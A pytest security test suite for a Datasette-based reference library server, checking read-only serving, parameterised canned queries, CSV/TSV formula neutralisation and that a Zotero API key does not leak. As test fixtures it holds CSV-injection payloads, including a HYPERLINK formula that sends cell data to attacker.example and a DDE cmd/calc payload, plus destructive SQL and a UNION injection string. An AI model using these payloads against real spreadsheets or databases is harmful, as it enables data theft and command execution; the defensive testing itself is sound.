"""Security of what is served and published.

- The served database is read-only (``refsette serve`` opens it with ``-i``): no endpoint writes, and SQL
  that would write is refused.
- Every canned query in ``metadata.yml`` is one read-only statement whose values arrive as named
  parameters, never formatted into the SQL.
- CSV/TSV downloads neutralise cells that a spreadsheet would run as a formula (``plugins/csv_safety.py``),
  streamed downloads included, without holding them in memory.
- The Zotero API key never reaches the database, the command's output or a published directory.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import os
import re
import sys
from pathlib import Path

import pytest
import sqlite_utils
import yaml
from click.testing import CliRunner
from datasette.app import Datasette
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.cli import datasette_args
from ingest.loader import Loader

from conftest import ROOT

sys.path.insert(0, str(ROOT / "plugins"))
import csv_safety  # noqa: E402

METADATA = yaml.safe_load((ROOT / "metadata.yml").read_text(encoding="utf-8"))

FORMULAS = [
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1, with a comma and \"quotes\"",
]
NUMBERS = ["-12", "+3.5", "-0.25", "-1e-3", "42"]
STREAM_ROWS = 2_500  # more than max_returned_rows (1,000): a streamed download has several pages


@pytest.fixture(scope="module")
def library(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("secure") / "library.db"
    db = sqlite_utils.Database(path)
    db.execute("PRAGMA synchronous = OFF")  # a scratch library: no need to wait for the disk
    loader = Loader(db)
    records = [{"title": formula, "type": "article-journal", "abstract": formula, "DOI": f"10.5555/f{i}"}
               for i, formula in enumerate(FORMULAS)]
    loader.load_records(records, path="formulas.json", fmt="csl-json")
    loader.finish()
    db["cells"].insert_all(
        ({"id": i, "text": FORMULAS[i % len(FORMULAS)], "number": NUMBERS[i % len(NUMBERS)],
          "longitude": -73.99 - i / 1000, "plain": f"row {i}"} for i in range(STREAM_ROWS)),
        pk="id",
    )
    db.close()
    return path


@pytest.fixture(scope="module")
def datasette(library) -> Datasette:
    # As ``refsette serve`` runs it: immutable, with the project's metadata, plugins and templates.
    assert datasette_args(library)[4:6] == ["-i", str(library)]
    return Datasette([], immutables=[str(library)], metadata=METADATA, plugins_dir=str(ROOT / "plugins"),
                     template_dir=str(ROOT / "templates"))


def run(coroutine):
    return asyncio.run(coroutine)


def get(datasette, path):
    return run(datasette.client.get(path))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ---- read-only ---------------------------------------------------------------------------------------

WRITING_SQL = [
    "insert into works (title) values ('written')",
    "update works set title = 'changed'",
    "delete from works",
    "drop table works",
    "create table intruder (x)",
    "attach database ':memory:' as other",
    "pragma journal_mode = delete",
    "select 1; delete from works",
]


@pytest.mark.parametrize("sql", WRITING_SQL)
def test_sql_that_writes_is_refused(datasette, library, sql):
    before = digest(library)
    response = run(datasette.client.get("/library.json", params={"sql": sql}))
    assert response.status_code >= 400
    assert get(datasette, "/library/works.json?_size=0").json()["filtered_table_rows_count"] == len(FORMULAS)
    assert digest(library) == before


@pytest.mark.parametrize("path", [
    "/library/works", "/library/works/1", "/library/works/-/insert", "/library/-/create", "/library",
    "/library/works/1/-/update", "/library/works/1/-/delete", "/library/works/-/drop",
    "/library/publications_per_year",
])
def test_no_endpoint_writes(datasette, library, path):
    before = digest(library)
    response = run(datasette.client.post(path, json={"row": {"title": "written"}, "rows": [{"title": "x"}]}))
    assert response.status_code >= 400, (path, response.status_code)
    assert digest(library) == before


def test_the_database_is_served_immutable(datasette):
    databases = get(datasette, "/-/databases.json").json()
    [library] = [db for db in databases if db["name"] == "library"]
    assert library["is_mutable"] is False


# ---- canned queries ----------------------------------------------------------------------------------

def canned_queries():
    for database, settings_ in (METADATA.get("databases") or {}).items():
        for name, query in (settings_.get("queries") or {}).items():
            yield database, name, query


def sql_outside_literals(sql: str) -> str:
    """The SQL with its string literals, quoted identifiers and comments blanked."""
    return re.sub(r"'(?:[^']|'')*'|\"(?:[^\"]|\"\")*\"|--[^\n]*|/\*.*?\*/", " ", sql, flags=re.S)


def test_metadata_has_canned_queries():
    assert len(list(canned_queries())) >= 5


@pytest.mark.parametrize("database, name, query", list(canned_queries()), ids=lambda v: v if isinstance(v, str) else "")
def test_canned_queries_read_and_take_named_parameters(database, name, query):
    assert isinstance(query, dict) and isinstance(query.get("sql"), str), name
    assert not query.get("write"), f"{name} writes"
    sql = sql_outside_literals(query["sql"])
    # One statement, and a reading one.
    assert sql.strip().rstrip(";").count(";") == 0, name
    assert re.match(r"\s*(?:select|with)\b", sql, re.IGNORECASE), name
    assert not re.search(r"\b(?:insert|update|delete|drop|alter|create|replace|attach|pragma|vacuum)\b",
                         sql, re.IGNORECASE), name
    # Values come in as :named parameters, never through formatting or positional placeholders.
    assert not re.search(r"\{[^}]*\}|%\(?\w*\)?s|\?\d*|\$\w+", sql), name
    used = set(re.findall(r"(?<!:):([A-Za-z_]\w*)", sql))
    assert used == set(query.get("params") or used), name


def test_a_hostile_parameter_is_bound_as_a_value(datasette):
    injected = "0 union all select 99, 'injected', 1, 1, 1"
    response = run(datasette.client.get("/library/most_frequent_authors.json", params={"limit": injected}))
    rows = response.json().get("rows") or []
    assert not any("injected" in map(str, row.values() if isinstance(row, dict) else row) for row in rows)
    response = run(datasette.client.get("/library/most_frequent_authors.json", params={"limit": "2"}))
    assert response.status_code == 200


# ---- CSV/TSV formula neutralisation ------------------------------------------------------------------


def neutralised(cell: str) -> str:
    """What a cell must look like in a download."""
    if cell[:1] in ("+", "-") and re.fullmatch(r"[+-](?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", cell):
        return cell
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def parse_csv(text: str, delimiter: str = ","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("query", ["", "?_dl=1", "?_labels=on"])
def test_table_csv_neutralises_formulas(datasette, query):
    response = get(datasette, f"/library/cells.csv{query}")
    assert response.status_code == 200
    rows = parse_csv(response.text)
    assert rows[0] == ["id", "text", "number", "longitude", "plain"]
    for row in rows[1:]:
        index = int(row[0])
        assert row[1] == neutralised(FORMULAS[index % len(FORMULAS)])
        assert row[2] == NUMBERS[index % len(NUMBERS)]  # numbers stay numbers
        assert float(row[3]) < 0  # negative longitudes too
    assert len(rows) == 101  # one page (default_page_size)


def test_streamed_csv_is_neutralised_and_still_streams(datasette):
    messages = run(asgi_get(datasette, "/library/cells.csv", b"_stream=on&_size=max"))
    start = messages[0]
    assert start["type"] == "http.response.start" and start["status"] == 200
    assert not any(key.lower() == b"content-length" for key, _ in start["headers"])
    bodies = [m for m in messages[1:] if m["type"] == "http.response.body"]
    # Sent as it is written, page after page: not gathered into one body.
    assert sum(1 for m in bodies if m.get("body")) > 10
    assert all(m.get("more_body") for m in bodies[:-1]) and not bodies[-1].get("more_body")
    rows = parse_csv(b"".join(m.get("body", b"") for m in bodies).decode("utf-8"))
    assert len(rows) == STREAM_ROWS + 1
    for row in rows[1:]:
        index = int(row[0])
        assert row[1] == neutralised(FORMULAS[index % len(FORMULAS)]) and row[2] == NUMBERS[index % len(NUMBERS)]


async def asgi_get(datasette, path: str, query: bytes):
    """The raw ASGI messages of a GET, to see how the body is sent."""
    await datasette.invoke_startup()
    app = datasette.app()
    scope = {"type": "http", "http_version": "1.1", "method": "GET", "scheme": "http", "path": path,
             "raw_path": path.encode(), "query_string": query, "root_path": "",
             "headers": [(b"host", b"localhost")], "client": ("127.0.0.1", 5000), "server": ("localhost", 80)}
    messages = []

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message):
        messages.append(message)

    await app(scope, receive, send)
    return messages


def test_query_csv_neutralises_headers_and_cells(datasette):
    response = run(datasette.client.get("/library.csv", params={
        "sql": "select '=cmd|'' /C calc''!A0' as \"=head\", -5 as n, '-5x' as t, title from works order by id limit 2"}))
    rows = parse_csv(response.text)
    assert rows[0] == ["'=head", "n", "t", "title"]
    assert rows[1][:3] == ["'=cmd|' /C calc'!A0", "-5", "'-5x"]
    assert rows[1][3] == neutralised(FORMULAS[0])


def test_json_is_left_alone(datasette):
    rows = get(datasette, "/library/cells.json?_shape=array&_size=7").json()
    assert [row["text"] for row in rows] == FORMULAS


def test_html_error_pages_are_left_alone(datasette):
    response = get(datasette, "/library/no_such_table.csv")
    assert response.status_code == 404


CELLS = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\",;' 0123456789.eEaé")), max_size=12)


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(st.lists(st.lists(CELLS, min_size=1, max_size=5), min_size=1, max_size=6), st.sampled_from([",", "\t"]),
       st.sampled_from([1, 2, 3, 5, 7, 64, 100_000]))
def test_neutraliser_on_any_cells_and_any_chunking(rows, delimiter, chunk):
    """Any table written by Python's csv module, cut into chunks of any size: the same table comes back,
    each cell neutralised, and the quoting still valid."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    data = buffer.getvalue().encode("utf-8")
    neutraliser = csv_safety.CellNeutraliser(delimiter.encode())
    out = b"".join(neutraliser.feed(data[i:i + chunk]) for i in range(0, len(data), chunk)) + neutraliser.close()
    assert parse_csv(data.decode("utf-8"), delimiter) == rows
    assert parse_csv(out.decode("utf-8"), delimiter) == [[neutralised(cell) for cell in row] for row in rows]


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(st.binary(max_size=200) | st.text(alphabet=st.sampled_from(list('=+-@\t\r\n",a1.')), max_size=200).map(str.encode),
       st.sampled_from([b",", b"\t"]), st.sampled_from([1, 3, 64, 100_000]))
def test_neutraliser_copies_whole_runs_as_it_would_step_byte_by_byte(data, delimiter, chunk):
    """``feed`` copies the inside of a cell in one go: the same bytes as one state-machine step per
    byte, for any bytes (CSV or not) in chunks of any size."""
    fast, slow = csv_safety.CellNeutraliser(delimiter), csv_safety.CellNeutraliser(delimiter)
    out = b"".join(fast.feed(data[i:i + chunk]) for i in range(0, len(data), chunk)) + fast.close()
    stepped = bytearray()
    for byte in data:
        slow._step(byte, stepped)
    assert out == bytes(stepped) + slow.close()


def test_tsv_responses_are_neutralised_too():
    async def tsv_app(scope, receive, send):
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/tab-separated-values; charset=utf-8"),
                                (b"content-length", b"18")]})
        await send({"type": "http.response.body", "body": b"a\t=b\n-1\t", "more_body": True})
        await send({"type": "http.response.body", "body": b"-x\n", "more_body": False})

    app = csv_safety.asgi_wrapper(None)(tsv_app)
    messages = []

    async def send(message):
        messages.append(message)

    run(app({"type": "http", "path": "/export.tsv"}, None, send))
    assert messages[0]["headers"] == [(b"content-type", b"text/tab-separated-values; charset=utf-8")]
    assert b"".join(m["body"] for m in messages[1:]) == b"a\t'=b\n-1\t'-x\n"


# ---- the Zotero API key ------------------------------------------------------------------------------


@pytest.mark.corpus
def test_the_zotero_key_is_never_stored_printed_or_published(corpus, tmp_path):
    from zotero_fake_server import FakeZoteroServer, load_library

    from ingest.zotero_cli import zotero

    key = "Sk3yN0tF0rTh3Publ1c" + hashlib.sha256(str(tmp_path).encode()).hexdigest()[:8]
    db_path = tmp_path / "library.db"
    with FakeZoteroServer([load_library(corpus, "user")], api_key=key, max_limit=50) as server:
        result = CliRunner().invoke(zotero, ["sync", str(db_path), "--user", "475425", "--base-url", server.url],
                                    env={"ZOTERO_API_KEY": key})
    assert result.exit_code == 0, result.output
    assert server.requests and all(r["headers"]["zotero-api-key"] == key for r in server.requests)
    assert sqlite_utils.Database(db_path)["works"].count > 0
    assert key not in result.output and key not in (result.stderr or "")
    for path in tmp_path.iterdir():  # the database and any journal beside it
        if path.is_file():
            assert key.encode() not in path.read_bytes(), path.name

    try:
        from ingest import publish
    except ImportError:
        pytest.skip("ingest/publish.py is not there yet: the published directory is not checked")
    out = tmp_path / "published"
    environ = dict(os.environ, ZOTERO_API_KEY=key)
    publish.generate(publish.Request("cloudrun", "refsette-test", "Test"), db_path, out, ROOT, environ)
    files = [p for p in out.rglob("*") if p.is_file()]
    assert any(p.name == "library.db" for p in files)
    for path in files:
        assert key.encode() not in path.read_bytes(), path.relative_to(out)
